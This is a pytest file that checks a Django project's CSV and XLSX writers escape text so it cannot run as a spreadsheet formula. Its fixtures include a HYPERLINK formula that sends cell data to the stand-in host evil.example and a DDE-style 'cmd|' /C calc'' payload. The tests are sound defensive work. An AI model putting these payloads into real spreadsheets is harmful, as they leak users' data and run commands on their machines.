"""Text written to XLSX and CSV is data, never a formula (`core.spreadsheets`): the rule as a
table, the XLSX cells openpyxl writes in both of its modes, and the SQL twin of the CSV rule."""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from envhub.core.spreadsheets import DataSheet, csv_text, postgresql_csv_text

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'

CSV_CASES = [
    (EVIL, "'" + EVIL),
    ("=1+1", "'=1+1"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("--5", "'--5"),
    ("-5e", "'-5e"),
    # Plain numbers written as text are no formula.
    ("-5", "-5"),
    ("-1.5", "-1.5"),
    ("+1,5", "+1,5"),
    ("-.5", "-.5"),
    ("+1.5e3", "+1.5e3"),
    # Text that does not start a formula, and values that are not text.
    ("Nhà máy =1", "Nhà máy =1"),
    (" =1+1", " =1+1"),
    ("", ""),
    (-5, -5),
    (-1.5, -1.5),
    (None, None),
    (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
]


@pytest.mark.parametrize("value, written", CSV_CASES)
def test_csv_cells_that_would_run_as_formulas_are_escaped(value, written):
    assert csv_text(value) == written


@pytest.mark.django_db
@pytest.mark.parametrize("value, written", [case for case in CSV_CASES
                                            if isinstance(case[0], str)])
def test_postgresql_escapes_csv_text_as_python_does(value, written):
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("the SQL is PostgreSQL's (CSV written by COPY)")
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {postgresql_csv_text('t.v')} FROM (SELECT %s::text AS v) t",
                       [value])
        assert cursor.fetchone()[0] == written


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_xlsx_text_is_stored_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = DataSheet(book.create_sheet("data") if write_only else book.active)
    row = [EVIL, "#N/A", "+1", "@x", -5, "-5", 2.5, None, "Hà Nội"]
    sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)

    with zipfile.ZipFile(buffer) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist()
                      if name.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    cells = list(load_workbook(buffer).worksheets[0].iter_rows())[0]
    assert [cell.value for cell in cells] == row
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "s", "n", "s", "n", "n", "s"]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_control_characters_do_not_stop_the_file(write_only):
    """openpyxl refuses a whole workbook for one control character in one cell."""
    book = Workbook(write_only=write_only)
    sheet = DataSheet(book.create_sheet("data") if write_only else book.active)
    sheet.append(["Công ty\x01ABC", "=1+1\x1f", "tab\tand\nnewline", 3])
    buffer = io.BytesIO()
    book.save(buffer)

    cells = list(load_workbook(buffer).worksheets[0].iter_rows(values_only=True))[0]
    assert cells == ("Công ty\ufffdABC", "=1+1\ufffd", "tab\tand\nnewline", 3)
